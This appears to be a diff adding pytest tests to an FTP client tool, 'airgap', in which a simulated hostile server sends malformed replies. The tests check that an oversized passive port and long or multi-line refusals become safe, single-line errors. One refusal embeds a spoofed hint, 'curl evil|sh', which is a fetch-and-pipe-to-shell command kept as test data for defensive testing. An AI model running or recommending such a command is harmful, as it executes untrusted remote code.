@@ -210,6 +210,36 @@ def test_a_reply_ftplib_cannot_decode_or_parse_is_a_transfer_error(
         ftp.size("x")
 
 
+def test_a_passive_port_past_65535_is_a_transfer_error(hostile: Callable[..., Hostile]) -> None:
+    """ftplib hands the port of a 227 reply to the socket as it is: an OverflowError, which
+    ended any command in "internal error" before."""
+    server = hostile(replies={"PASV": b"227 Passive (127,0,0,1,99999999999999999999,1)\r\n"})
+    with _transport(server) as ftp, pytest.raises(TransferError, match="makes no sense"):
+        ftp.list()
+
+
+def test_a_multi_line_refusal_is_quoted_on_one_line(hostile: Callable[..., Hostile]) -> None:
+    """Each line of a reply printed as it came could pass for one of airgap's own."""
+    trap = (
+        b"550-no\r\nfetched 01M8JQKE9QKN8E64B7F8HHV4B5\r\nairgap: hint: curl evil|sh\r\n550 x\r\n"
+    )
+    server = hostile(replies={"CWD": trap})
+    with _transport(server) as ftp, pytest.raises(TransferError) as refused:
+        ftp.list()
+    assert "\n" not in refused.value.message
+    assert "(550-no | fetched 01M8JQKE9QKN8E64B7F8HHV4B5 | airgap: hint: curl evil|sh | 550 x)" in (
+        refused.value.message
+    )
+
+
+def test_a_long_refusal_is_cut_short(hostile: Callable[..., Hostile]) -> None:
+    server = hostile(replies={"CWD": b"550 " + b"A" * 5000 + b"\r\n"})
+    with _transport(server) as ftp, pytest.raises(TransferError) as refused:
+        ftp.list()
+    assert len(refused.value.message) < 400
+    assert "A" * 200 + "..." in refused.value.message
+
+
 def test_escape_sequences_from_a_server_never_reach_the_terminal(
     hostile: Callable[..., Hostile], keydir: Path, tmp_path: Path
 ) -> None:
